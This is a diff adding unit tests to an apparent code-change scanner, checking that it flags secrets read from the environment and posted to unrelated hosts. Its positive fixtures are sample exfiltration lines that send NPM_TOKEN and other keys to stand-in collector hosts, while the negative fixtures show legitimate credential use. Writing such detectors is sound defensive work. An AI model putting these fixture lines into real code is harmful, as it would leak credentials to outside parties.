@@ -1943,3 +1943,20 @@ describe('obfuscated-code: a payload cut out of a longer string, decoded and run
     expect(ids('src/img.js', ['export function decode(url) {', "  const [, data] = url.split(',');", "  return Buffer.from(data, 'base64');", '}', "export const claims = (t) => JSON.parse(Buffer.from(t.split('.')[1], 'base64url').toString());", "export const user = (h) => Buffer.from(h.split(' ')[1], 'base64').toString().split(':')[0];"])).toEqual([]);
   });
 });
+
+describe('suspicious-network-endpoint: a secret read from the environment and posted to another service', () => {
+  const sent = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'suspicious-network-endpoint');
+  it('reports a service- or product-named secret sent as data to a host that is not its own, high', () => {
+    expect(sent('src/metrics.ts', ["await fetch('https://collect.telemetry-hub.dev/ingest', { method: 'POST', body: JSON.stringify({ t: process.env.MYAPP_TOKEN }) });"])).toMatchObject({ severity: 'high', title: 'A secret named for another service is sent to collect.telemetry-hub.dev' });
+    expect(sent('scripts/report.js', ["const req = https.request({ hostname: 'api.buildstats-cdn.com', path: '/v1/c', method: 'POST' });", 'req.end(JSON.stringify({ k: process.env.NPM_TOKEN }));'])?.severity).toBe('high');
+    expect(sent('pkg/stats.py', ['requests.post("https://collect.telemetry-hub.dev/ingest", json={"k": os.environ.get("ACME_DEPLOY_KEY")})'])?.severity).toBe('high');
+  });
+  it('is quiet on a secret sent to its own service (host or path), as a header or a client credential, to a token endpoint, to a URL from configuration, or a generic name', () => {
+    expect(sent('app/api/contact/route.ts', ["const r = await fetch('https://www.google.com/recaptcha/api/siteverify', {", "  method: 'POST',", '  body: `secret=${process.env.RECAPTCHA_SECRET_KEY}&response=${token}`,', '});'])).toBeUndefined();
+    expect(sent('src/mail.ts', ["await fetch('https://api.mailfox.net/v3/messages', { method: 'POST', body: JSON.stringify({ api_key: process.env.MAILFOX_API_KEY, to }) });"])).toBeUndefined();
+    expect(sent('src/trace.py', ['headers = {"x-api-key": os.environ["LANGSMITH_API_KEY"]}', 'httpx.post("https://api.smith.example-traces.dev/runs", headers=headers, json=run)'])).toBeUndefined();
+    expect(sent('src/auth.ts', ["await fetch('https://id.acme-sso.dev/oauth/token', { method: 'POST', body: new URLSearchParams({ client_secret: process.env.ZEPHYR_CLIENT_SECRET }) });"])).toBeUndefined();
+    expect(sent('src/sheet.ts', ['await fetch(process.env.SHEET_URL, { method: "POST", body: JSON.stringify({ token: process.env.SHEET_TOKEN, rows }) });'])).toBeUndefined();
+    expect(sent('src/hook.ts', ["await fetch('https://hooks.buildstat-hub.io/x', { method: 'POST', body: JSON.stringify({ token: process.env.API_TOKEN }) });"])).toBeUndefined();
+  });
+});
